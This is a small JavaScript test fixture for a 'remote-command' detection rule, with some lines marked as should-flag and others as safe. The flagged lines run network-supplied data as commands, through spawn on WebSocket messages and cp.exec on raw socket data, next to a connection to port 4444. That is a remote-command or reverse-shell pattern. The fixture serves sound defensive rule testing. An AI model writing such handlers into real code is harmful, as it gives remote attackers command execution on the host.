import WebSocket from "ws";

const socket = new WebSocket("wss://live.example.com");
socket.on("message", (data) => {
  const order = JSON.parse(data.toString());
  // ruleid: remote-command
  spawn(order.program, order.args);
});
net.connect(4444, host).on("close", () => {});
client.on("data", (data) => {
  // ruleid: remote-command
  cp.exec(data.toString());
});
socket.on("message", (data) => {
  // ok: remote-command
  console.log(data);
  // ok: remote-command
  spawn("git", ["status"]);
});
